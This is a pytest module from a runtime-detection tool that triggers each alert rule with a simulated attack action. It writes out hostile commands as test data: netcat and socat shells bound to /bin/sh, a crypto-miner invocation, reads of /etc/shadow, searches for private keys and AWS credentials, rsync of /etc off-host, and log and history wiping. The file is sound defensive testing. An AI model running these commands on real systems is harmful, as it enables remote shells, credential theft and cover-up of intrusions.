@@ -1,0 +1,733 @@
+"""Every rule this host can trigger, triggered for real through `bpfopa run`.
+
+One `bpfopa run` (real kernel capture, managed real OPA, the bundled policies) serves the whole
+module. Each test performs the attack-like action in a child process and asserts that exactly
+the expected alerts (rule titles, once each) arrive for that process tree. Rules that
+legitimately fire together on one action are listed together, with the reason.
+
+Not covered here (see the module's report): Linux Kernel Module Injection Detected (no
+init_module/finit_module tracepoints on a kernel built without modules), Debugfs Launched in
+Privileged Container (no `process.container.privileged`), Drop and execute new binary in
+container (no `process.exe_upper_layer`, no overlay container), Detect outbound connections to
+common miner pool ports (needs the peer's DNS name), Interpreted procs inbound network activity
+(needs a routable listening address; servers here listen on 127.0.0.1 only).
+"""
+
+from __future__ import annotations
+
+import os
+import socket
+import subprocess
+import time
+from collections import Counter
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass
+from pathlib import Path
+
+import pytest
+
+from tests.conftest import require
+from tests.kernel.rules_harness import (
+    PYTHON,
+    LiveRun,
+    cgroup2_root,
+    docker_cgroup,
+    env_with,
+    host_has_default_route,
+    in_cgroup,
+    named_copy,
+    python_action,
+    removed_after,
+    run_action,
+    unique,
+)
+
+# A documentation address (TEST-NET-2): never answers. UDP connect() to it only looks up a
+# route and sends nothing, yet the socket call is an outbound connection to a routable peer.
+ROUTABLE_PEER = "198.51.100.1"
+
+NET_TOOL_HOST = "Launch Suspicious Network Tool on Host"
+NC_RCE_HOST = "Netcat/Socat Remote Code Execution on Host"
+INTERPRETED_OUT = "Interpreted procs outbound network activity"
+SENSITIVE_UNTRUSTED = "Read sensitive file untrusted"
+
+
+@pytest.fixture(scope="module")
+def live(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveRun]:
+    require(os.geteuid() == 0, "live rule tests need root")
+    try:
+        import bcc  # noqa: F401
+    except ImportError:
+        require(False, "BCC (python3-bpfcc) is not importable")
+    run = LiveRun(tmp_path_factory.mktemp("live-rules"))
+    try:
+        run.wait_ready()
+        yield run
+    finally:
+        code, err = run.stop()
+    assert code == 0, err
+
+
+@pytest.fixture(scope="module")
+def old_nginx(tmp_path_factory: pytest.TempPathFactory) -> Iterator[subprocess.Popen[str]]:
+    """A long-running "nginx" (a python copy) started early, so that by the time its test runs
+    it is past Falco's 5 s "new process" grace period. It reads /etc/shadow on request."""
+    tools = tmp_path_factory.mktemp("nginx")
+    nginx = named_copy(tools, "nginx", PYTHON)
+    code = (
+        "import sys\nfor _ in sys.stdin:\n"
+        "    open('/etc/shadow', 'rb').close()\n    print('done', flush=True)"
+    )
+    proc = subprocess.Popen(
+        [str(nginx), "-I", "-S", "-c", code],
+        stdin=subprocess.PIPE,
+        stdout=subprocess.PIPE,
+        text=True,
+    )
+    proc.started = time.monotonic()  # type: ignore[attr-defined]
+    try:
+        yield proc
+    finally:
+        proc.kill()
+        proc.wait(10)
+
+
+def assert_exactly(live: LiveRun, action: Callable[[], int], expected: set[str]) -> None:
+    """`action` (returning the pid it ran) raises exactly the `expected` alerts, once each."""
+    pid, alerts, drops = live.check(action, expected)
+    titles = Counter(a["rule"] for a in alerts)
+    lost = f"; bpfopa reported lost events: {[d['output'] for d in drops]}" if drops else ""
+    assert set(titles) == expected, (
+        f"pid {pid}: got {dict(titles)}, want {sorted(expected)}{lost}; "
+        f"outputs: {[a.get('output') for a in alerts]}"
+    )
+    assert all(n == 1 for n in titles.values()), f"pid {pid}: duplicated alerts {dict(titles)}"
+    for alert in alerts:
+        assert alert["priority"] and alert["tags"] and alert["output_fields"]
+
+
+# --- programs run by name ------------------------------------------------------------------
+
+
+@dataclass(frozen=True)
+class Exec:
+    """Run `argv` (a `{tmp}` placeholder is the test's temp dir); a first word without a slash
+    that is not a real tool is a copy of /bin/true under that name."""
+
+    argv: tuple[str, ...]
+    expected: frozenset[str]
+    env: tuple[tuple[str, str], ...] = ()
+    fake: bool = True
+    check: bool = True
+
+
+EXEC_CASES = {
+    "nc": Exec(("nc", "-z", ROUTABLE_PEER, "80"), frozenset({NET_TOOL_HOST})),
+    "nmap": Exec(("nmap", "-sT", ROUTABLE_PEER), frozenset({NET_TOOL_HOST})),
+    # The netcat RCE rule is a refinement of the network tool rule: Falco fires both.
+    "nc -e": Exec(
+        ("nc", "-e", "/bin/sh", ROUTABLE_PEER, "4444"), frozenset({NET_TOOL_HOST, NC_RCE_HOST})
+    ),
+    "socat EXEC": Exec(
+        ("socat", "TCP-LISTEN:4444", "EXEC:/bin/sh"), frozenset({NET_TOOL_HOST, NC_RCE_HOST})
+    ),
+    "useradd": Exec(("useradd", "bpfopa-nobody"), frozenset({"User mgmt binaries"})),
+    "crontab": Exec(("crontab", "-l"), frozenset({"Schedule Cron Jobs"})),
+    "stratum miner": Exec(
+        ("xmrig", "-o", "stratum+tcp://pool.example.net:3333"),
+        frozenset({"Detect crypto miners using the Stratum protocol"}),
+    ),
+    "curl with HTTP_PROXY": Exec(
+        ("curl", "http://example.net/"),
+        frozenset({"Program run with disallowed http proxy env"}),
+        env=(("HTTP_PROXY", "http://127.0.0.1:3128"),),
+    ),
+    "shred": Exec(("shred", "{tmp}/data"), frozenset({"Remove Bulk Data from Disk"}), fake=False),
+    "find id_rsa": Exec(
+        ("find", "{tmp}", "-name", "id_rsa"),
+        frozenset({"Search Private Keys or Passwords"}),
+        fake=False,
+    ),
+    "grep private key": Exec(
+        ("grep", "-rl", "BEGIN RSA PRIVATE", "{tmp}"),
+        frozenset({"Search Private Keys or Passwords"}),
+        fake=False,
+        check=False,  # grep exits 1 when nothing matches
+    ),
+    "grep aws secret": Exec(
+        ("grep", "aws_secret_access_key", "{tmp}/data"),
+        frozenset({"Find AWS Credentials"}),
+        fake=False,
+        check=False,
+    ),
+    "find .aws/credentials": Exec(
+        ("find", "{tmp}", "-path", "*/.aws/credentials"),
+        frozenset({"Find AWS Credentials"}),
+        fake=False,
+    ),
+    "cat /etc/shadow": Exec(("cat", "/etc/shadow"), frozenset({SENSITIVE_UNTRUSTED}), fake=False),
+    "symlink to /etc/shadow": Exec(
+        ("ln", "-s", "/etc/shadow", "{tmp}/shadow-link"),
+        frozenset({"Create Symlink Over Sensitive Files"}),
+        fake=False,
+    ),
+    "hardlink to /etc/shadow": Exec(
+        ("ln", "/etc/shadow", "{tmp}/shadow-hardlink"),
+        frozenset({"Create Hardlink Over Sensitive Files"}),
+        fake=False,
+    ),
+    "chmod u+s": Exec(
+        ("chmod", "u+s", "{tmp}/data"), frozenset({"Set Setuid or Setgid bit"}), fake=False
+    ),
+    "chmod g+s": Exec(
+        ("chmod", "2755", "{tmp}/data"), frozenset({"Set Setuid or Setgid bit"}), fake=False
+    ),
+    "truncate a log": Exec(
+        ("/bin/sh", "-c", ": > {tmp}/syslog"), frozenset({"Clear Log Activities"}), fake=False
+    ),
+    "read .bashrc": Exec(
+        ("cat", "{tmp}/.bashrc"), frozenset({"Read Shell Configuration File"}), fake=False
+    ),
+    "delete shell history": Exec(
+        ("rm", "{tmp}/.bash_history"),
+        frozenset({"Delete or rename shell history"}),
+        fake=False,
+    ),
+    "rename shell history": Exec(
+        ("mv", "{tmp}/.zsh_history", "{tmp}/old-history"),
+        frozenset({"Delete or rename shell history"}),
+        fake=False,
+    ),
+}
+
+
+@pytest.mark.parametrize("case", EXEC_CASES.values(), ids=EXEC_CASES.keys())
+def test_exec(live: LiveRun, tmp_path: Path, case: Exec) -> None:
+    argv = [arg.replace("{tmp}", str(tmp_path)) for arg in case.argv]
+    if case.fake:
+        tools = tmp_path / "bin"
+        tools.mkdir()
+        argv[0] = str(named_copy(tools, argv[0]))
+    env = env_with(**dict(case.env)) if case.env else None
+    hardlink = tmp_path / "shadow-hardlink"
+
+    def action() -> int:
+        (tmp_path / "data").write_text("aws_secret_access_key = not-a-real-key\n")
+        (tmp_path / ".bashrc").write_text("# test\n")
+        (tmp_path / ".bash_history").write_text("ls\n")
+        (tmp_path / ".zsh_history").write_text("ls\n")
+        (tmp_path / "syslog").write_text("old log line\n")
+        for link in (hardlink, tmp_path / "shadow-link"):
+            link.unlink(missing_ok=True)
+        return run_action(argv, env=env, check=case.check)
+
+    with removed_after(hardlink):
+        assert_exactly(live, action, set(case.expected))
+
+
+# --- files -------------------------------------------------------------------------------
+
+_WRITE_EXISTING = "import os,sys\nos.close(os.open(sys.argv[1], os.O_WRONLY | os.O_APPEND))"
+_CREATE = "import os,sys\nos.close(os.open(sys.argv[1], os.O_WRONLY | os.O_CREAT, 0o600))"
+
+
+def test_modify_shell_configuration_file(live: LiveRun, tmp_path: Path) -> None:
+    # The file exists already: opening it with O_CREAT would also (rightly) be a hidden file
+    # creation.
+    rc = tmp_path / ".bashrc"
+    rc.write_text("# test\n")
+    assert_exactly(
+        live, lambda: python_action(_WRITE_EXISTING, str(rc)), {"Modify Shell Configuration File"}
+    )
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        _CREATE,
+        "import os,sys\nos.mkdir(sys.argv[1])",
+        "import os,sys\nvisible = os.path.join(os.path.dirname(sys.argv[1]), 'visible')\n"
+        "open(visible, 'w').close()\nos.rename(visible, sys.argv[1])",
+    ],
+    ids=["file", "directory", "rename"],
+)
+def test_create_hidden_files_or_directories(live: LiveRun, tmp_path: Path, code: str) -> None:
+    hidden = tmp_path / ".bpfopa-hidden"
+
+    def action() -> int:
+        if hidden.is_dir():
+            hidden.rmdir()
+        return python_action(code, str(hidden))
+
+    assert_exactly(live, action, {"Create Hidden Files or Directories"})
+
+
+def test_clear_log_activities_below_var_log(live: LiveRun) -> None:
+    log = Path("/var/log") / unique()
+    with removed_after(log):
+        log.write_text("old log line\n")
+        assert_exactly(
+            live, lambda: run_action(["/bin/sh", "-c", f": > {log}"]), {"Clear Log Activities"}
+        )
+
+
+def test_schedule_cron_jobs_file(live: LiveRun) -> None:
+    job = Path("/etc/cron.d") / unique()
+    require(job.parent.is_dir(), "/etc/cron.d does not exist")
+    with removed_after(job):
+        assert_exactly(live, lambda: run_action(["touch", str(job)]), {"Schedule Cron Jobs"})
+
+
+def test_read_ssh_information(live: LiveRun) -> None:
+    # A throwaway home directory: never read a real user's keys.
+    home = Path("/home") / unique()
+    with removed_after(home):
+        (home / ".ssh").mkdir(parents=True)
+        (home / ".ssh" / "known_hosts").write_text("# test\n")
+        assert_exactly(
+            live,
+            lambda: run_action(["cat", str(home / ".ssh" / "known_hosts")]),
+            {"Read ssh information"},
+        )
+
+
+def test_write_below_monitored_ssh_dir(live: LiveRun) -> None:
+    home = Path("/home") / unique()
+    with removed_after(home):
+        (home / ".ssh").mkdir(parents=True)
+        (home / ".ssh" / "authorized_keys").write_text("# test\n")
+        keys = str(home / ".ssh" / "authorized_keys")
+        # Write-only open: Read ssh information (a read) must stay quiet.
+        assert_exactly(
+            live, lambda: python_action(_WRITE_EXISTING, keys), {"Write below monitored dir"}
+        )
+
+
+def test_write_below_monitored_dir(live: LiveRun) -> None:
+    target = Path("/usr/local/bin") / unique()
+    require(target.parent.is_dir(), "/usr/local/bin does not exist")
+    with removed_after(target):
+        assert_exactly(
+            live, lambda: python_action(_CREATE, str(target)), {"Write below monitored dir"}
+        )
+
+
+def test_write_below_binary_dir(live: LiveRun) -> None:
+    target = Path("/usr/bin") / unique()
+    with removed_after(target):
+        assert_exactly(
+            live, lambda: python_action(_CREATE, str(target)), {"Write below binary dir"}
+        )
+
+
+def test_mkdir_binary_dirs(live: LiveRun) -> None:
+    target = Path("/usr/bin") / unique()
+    with removed_after(target):
+
+        def action() -> int:
+            if target.is_dir():
+                target.rmdir()
+            return run_action(["mkdir", str(target)])
+
+        assert_exactly(live, action, {"Mkdir binary dirs"})
+
+
+def test_modify_binary_dirs(live: LiveRun) -> None:
+    target = Path("/usr/bin") / unique()
+    with removed_after(target):
+
+        def action() -> int:
+            target.write_text("")
+            return run_action(["rm", str(target)])
+
+        assert_exactly(live, action, {"Modify binary dirs"})
+
+
+def test_create_files_below_dev(live: LiveRun) -> None:
+    target = Path("/dev") / unique()
+    with removed_after(target):
+        assert_exactly(
+            live, lambda: python_action(_CREATE, str(target)), {"Create files below dev"}
+        )
+
+
+def test_update_package_repository(live: LiveRun) -> None:
+    target = Path("/etc/apt/sources.list.d") / f"{unique()}.list"
+    require(target.parent.is_dir(), "/etc/apt/sources.list.d does not exist")
+    with removed_after(target):
+        assert_exactly(
+            live, lambda: python_action(_CREATE, str(target)), {"Update Package Repository"}
+        )
+
+
+def test_write_below_rpm_database(live: LiveRun) -> None:
+    # The rule (like Falco's) matches the prefix /var/lib/rpm; a sibling file keeps any real
+    # rpm database untouched.
+    target = Path("/var/lib") / f"rpm.{unique()}"
+    with removed_after(target):
+        assert_exactly(
+            live, lambda: python_action(_CREATE, str(target)), {"Write below rpm database"}
+        )
+
+
+def test_directory_traversal_monitored_file_read(live: LiveRun, tmp_path: Path) -> None:
+    depth = len(tmp_path.parts)
+    relative = "../" * depth + "etc/hostname"
+    assert_exactly(
+        live,
+        lambda: run_action(["cat", relative], cwd=tmp_path),
+        {"Directory traversal monitored file read"},
+    )
+
+
+def test_read_sensitive_file_trusted_after_startup(
+    live: LiveRun, old_nginx: subprocess.Popen[str]
+) -> None:
+    age = time.monotonic() - old_nginx.started  # type: ignore[attr-defined]
+    time.sleep(max(0.0, 5.5 - age))
+    assert old_nginx.stdin is not None and old_nginx.stdout is not None
+    stdin, stdout = old_nginx.stdin, old_nginx.stdout
+
+    def action() -> int:
+        stdin.write("go\n")
+        stdin.flush()
+        assert stdout.readline().strip() == "done"
+        return old_nginx.pid
+
+    # nginx is a trusted server binary, not a trusted *reader*: Falco fires both rules.
+    assert_exactly(live, action, {"Read sensitive file trusted after startup", SENSITIVE_UNTRUSTED})
+
+
+# --- processes ---------------------------------------------------------------------------
+
+
+def test_execution_from_dev_shm(live: LiveRun) -> None:
+    target = Path("/dev/shm") / unique()
+    with removed_after(target):
+        named_copy(target.parent, target.name)
+        assert_exactly(live, lambda: run_action([str(target)]), {"Execution from /dev/shm"})
+
+
+_MEMFD_EXEC = """
+import os
+fd = os.memfd_create("bpfopa-test", 0)
+with open("/bin/true", "rb") as f:
+    os.write(fd, f.read())
+os.execv(f"/proc/self/fd/{fd}", ["true"])
+"""
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="capture: after execve('/proc/self/fd/N') process.exe is '/proc/self/fd/N', not the "
+    "kernel's '/memfd:<name> (deleted)' (bpfopa/state/_table.py on_exec takes the exec filename)",
+)
+def test_fileless_execution_via_memfd_create(live: LiveRun) -> None:
+    assert_exactly(
+        live, lambda: python_action(_MEMFD_EXEC), {"Fileless execution via memfd_create"}
+    )
+
+
+_TRACEME = """
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+assert libc.ptrace(0, 0, None, None) == 0  # PTRACE_TRACEME
+"""
+
+_ATTACH = """
+import ctypes, os, signal, subprocess
+libc = ctypes.CDLL(None, use_errno=True)
+child = subprocess.Popen(["sleep", "30"])
+assert libc.ptrace(16, child.pid, None, None) == 0  # PTRACE_ATTACH
+os.waitpid(child.pid, 0)
+libc.ptrace(17, child.pid, None, None)  # PTRACE_DETACH
+child.kill()
+child.wait()
+"""
+
+
+def test_ptrace_anti_debug_attempt(live: LiveRun) -> None:
+    assert_exactly(live, lambda: python_action(_TRACEME), {"PTRACE anti-debug attempt"})
+
+
+def test_ptrace_attached_to_process(live: LiveRun) -> None:
+    assert_exactly(live, lambda: python_action(_ATTACH), {"PTRACE attached to process"})
+
+
+_SETUID_ROOT = """
+import os
+try:
+    os.setuid(0)
+except PermissionError:
+    pass
+"""
+
+
+def test_non_sudo_setuid(live: LiveRun) -> None:
+    argv = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
+    assert_exactly(
+        live,
+        lambda: run_action([*argv, PYTHON, "-I", "-S", "-c", _SETUID_ROOT]),
+        {"Non sudo setuid"},
+    )
+
+
+_SETNS_OWN = """
+import ctypes, os
+libc = ctypes.CDLL(None, use_errno=True)
+fd = os.open("/proc/self/ns/uts", os.O_RDONLY)
+assert libc.setns(fd, 0) == 0, ctypes.get_errno()
+"""
+
+
+def test_change_thread_namespace(live: LiveRun) -> None:
+    # Re-entering its own UTS namespace: a real setns(2) that changes nothing.
+    assert_exactly(live, lambda: python_action(_SETNS_OWN), {"Change thread namespace"})
+
+
+def test_run_shell_untrusted(live: LiveRun, tmp_path: Path) -> None:
+    nginx = named_copy(tmp_path, "nginx", PYTHON)
+    code = "import subprocess\nsubprocess.run(['/bin/sh', '-c', 'exit 0'], check=True)"
+    assert_exactly(
+        live, lambda: run_action([str(nginx), "-I", "-S", "-c", code]), {"Run shell untrusted"}
+    )
+
+
+def test_system_user_interactive(live: LiveRun, tmp_path: Path) -> None:
+    # Below an "sshd", a system user (nobody) runs a command.
+    sshd = named_copy(tmp_path, "sshd", PYTHON)
+    code = (
+        "import subprocess\nsubprocess.run(['setpriv', '--reuid=65534', '--regid=65534', "
+        "'--clear-groups', '/bin/true'], check=True)"
+    )
+    assert_exactly(
+        live, lambda: run_action([str(sshd), "-I", "-S", "-c", code]), {"System user interactive"}
+    )
+
+
+# --- network -----------------------------------------------------------------------------
+
+_UDP_CONNECT = """
+import socket, sys
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.connect((sys.argv[1], int(sys.argv[2])))
+s.close()
+"""
+
+
+# Non-blocking: connect() returns EINPROGRESS at once (Falco counts it as a connection).
+_TCP_SYN = """
+import socket, sys
+s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+s.setblocking(False)
+try:
+    s.connect((sys.argv[1], int(sys.argv[2])))
+except BlockingIOError:
+    pass
+s.close()
+"""
+
+
+def _require_route() -> None:
+    require(host_has_default_route(), "no IPv4 default route: no routable peer to connect to")
+
+
+def test_interpreted_procs_outbound_network_activity(live: LiveRun) -> None:
+    _require_route()
+    assert_exactly(
+        live, lambda: python_action(_UDP_CONNECT, ROUTABLE_PEER, "53"), {INTERPRETED_OUT}
+    )
+
+
+def test_unexpected_udp_traffic(live: LiveRun) -> None:
+    _require_route()
+    assert_exactly(
+        live,
+        lambda: python_action(_UDP_CONNECT, ROUTABLE_PEER, "5000"),
+        {"Unexpected UDP Traffic", INTERPRETED_OUT},
+    )
+
+
+def test_disallowed_ssh_connection_non_standard_port(live: LiveRun, tmp_path: Path) -> None:
+    _require_route()
+    # An executable named ssh (a python copy: exactly one non-blocking TCP connect, i.e. one
+    # SYN towards a documentation address that never answers) on port 2222.
+    ssh = named_copy(tmp_path, "ssh", PYTHON)
+    assert_exactly(
+        live,
+        lambda: run_action([str(ssh), "-I", "-S", "-c", _TCP_SYN, ROUTABLE_PEER, "2222"]),
+        {"Disallowed SSH Connection Non Standard Port"},
+    )
+
+
+# --- containers (a cgroup laid out like Docker's) ------------------------------------------
+
+
+@pytest.fixture
+def container(live: LiveRun) -> Iterator[Path]:
+    root = cgroup2_root()
+    require(root is not None, "no cgroup v2 hierarchy mounted")
+    assert root is not None
+    with docker_cgroup(root) as cgroup:
+        yield cgroup
+
+
+NET_TOOL_CONTAINER = "Launch Suspicious Network Tool in Container"
+
+CONTAINER_EXEC_CASES: dict[str, tuple[tuple[str, ...], frozenset[str]]] = {
+    "apt-get": (
+        ("apt-get", "install", "-y", "nmap"),
+        frozenset({"Launch Package Management Process in Container"}),
+    ),
+    "rsync": (
+        ("rsync", "-a", "/etc", "198.51.100.1:/x"),
+        frozenset({"Launch Remote File Copy Tools in Container"}),
+    ),
+    "nmap": (("nmap", "-sT", ROUTABLE_PEER), frozenset({NET_TOOL_CONTAINER})),
+    "nc -e": (
+        ("nc", "-e", "/bin/sh", ROUTABLE_PEER, "4444"),
+        frozenset({NET_TOOL_CONTAINER, "Netcat Remote Code Execution in Container"}),
+    ),
+}
+
+
+@pytest.mark.parametrize(
+    ("argv", "expected"), CONTAINER_EXEC_CASES.values(), ids=CONTAINER_EXEC_CASES.keys()
+)
+def test_exec_in_container(
+    live: LiveRun,
+    tmp_path: Path,
+    container: Path,
+    argv: tuple[str, ...],
+    expected: frozenset[str],
+) -> None:
+    tool = named_copy(tmp_path, argv[0])
+    assert_exactly(
+        live, lambda: run_action(in_cgroup(container, [str(tool), *argv[1:]])), set(expected)
+    )
+
+
+_TERMINAL_SHELL = """
+import os, subprocess, sys
+cgroup = sys.argv[1]
+with open(cgroup + "/cgroup.procs", "w") as f:
+    f.write(str(os.getpid()))
+primary, secondary = os.openpty()
+shell = subprocess.Popen(
+    ["/bin/sh", "-c", "exit 0"], stdin=secondary, stdout=secondary, stderr=secondary,
+    start_new_session=True, process_group=None,
+    preexec_fn=lambda: __import__("fcntl").ioctl(0, __import__("termios").TIOCSCTTY, 0),
+)
+assert shell.wait() == 0
+"""
+
+
+def test_terminal_shell_in_container(live: LiveRun, tmp_path: Path, container: Path) -> None:
+    # The container runtime's shim (a python copy named containerd-shim) starts a shell on a
+    # new terminal inside the container, as `docker exec -it` does.
+    shim = named_copy(tmp_path, "containerd-shim", PYTHON)
+    assert_exactly(
+        live,
+        lambda: run_action([str(shim), "-I", "-S", "-c", _TERMINAL_SHELL, str(container)]),
+        {"Terminal shell in container"},
+    )
+
+
+def _python_in(container: Path, code: str, *args: str, env: dict[str, str] | None = None) -> int:
+    return run_action(in_cgroup(container, [PYTHON, "-I", "-S", "-c", code, *args]), env=env)
+
+
+_PACKET_SOCKET = """
+import socket
+socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).close()
+"""
+
+
+def test_packet_socket_created_in_container(live: LiveRun, container: Path) -> None:
+    assert_exactly(
+        live, lambda: _python_in(container, _PACKET_SOCKET), {"Packet socket created in container"}
+    )
+
+
+@pytest.fixture
+def loopback_listener() -> Iterator[socket.socket]:
+    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    server.bind(("127.0.0.1", 0))
+    server.listen(8)
+    try:
+        yield server
+    finally:
+        server.close()
+
+
+_TCP_CONNECT = """
+import socket, sys
+s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
+s.close()
+"""
+
+
+def test_contact_k8s_api_server_from_container(
+    live: LiveRun, container: Path, loopback_listener: socket.socket
+) -> None:
+    # The pod's environment names the API server; a local listener plays it.
+    host, port = loopback_listener.getsockname()
+    env = env_with(KUBERNETES_SERVICE_HOST=host, KUBERNETES_SERVICE_PORT=str(port))
+    assert_exactly(
+        live,
+        lambda: _python_in(container, _TCP_CONNECT, host, str(port), env=env),
+        {"Contact K8S API Server From Container"},
+    )
+
+
+_REDIRECT_STDOUT = """
+import os, socket, sys
+s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
+os.dup2(s.fileno(), 1)
+"""
+
+
+def test_redirect_stdout_to_network_connection_in_container(
+    live: LiveRun, container: Path, loopback_listener: socket.socket
+) -> None:
+    host, port = loopback_listener.getsockname()
+    assert_exactly(
+        live,
+        lambda: _python_in(container, _REDIRECT_STDOUT, host, str(port)),
+        {"Redirect STDOUT/STDIN to Network Connection in Container"},
+    )
+
+
+def test_contact_ec2_instance_metadata_service_from_container(
+    live: LiveRun, container: Path
+) -> None:
+    _require_route()
+    # UDP connect(): a route lookup towards 169.254.169.254, no packet sent. The process is a
+    # python, so Falco's interpreted-outbound rule rightly fires too.
+    assert_exactly(
+        live,
+        lambda: _python_in(container, _UDP_CONNECT, "169.254.169.254", "80"),
+        {"Contact EC2 Instance Metadata Service From Container", INTERPRETED_OUT},
+    )
+
+
+def test_unexpected_k8s_nodeport_connection(live: LiveRun, container: Path) -> None:
+    _require_route()
+    # UDP to a port outside Falco's expected UDP ports: Unexpected UDP Traffic fires too.
+    assert_exactly(
+        live,
+        lambda: _python_in(container, _UDP_CONNECT, ROUTABLE_PEER, "30080"),
+        {"Unexpected K8s NodePort Connection", INTERPRETED_OUT, "Unexpected UDP Traffic"},
+    )
+
+
+def test_detect_release_agent_file_container_escapes(
+    live: LiveRun, tmp_path: Path, container: Path
+) -> None:
+    # A file named like cgroup v1's release_agent (the rule matches the name): writing the
+    # real one would be the escape itself.
+    assert_exactly(
+        live,
+        lambda: _python_in(container, _CREATE, str(tmp_path / "release_agent")),
+        {"Detect release_agent File Container Escapes"},
+    )
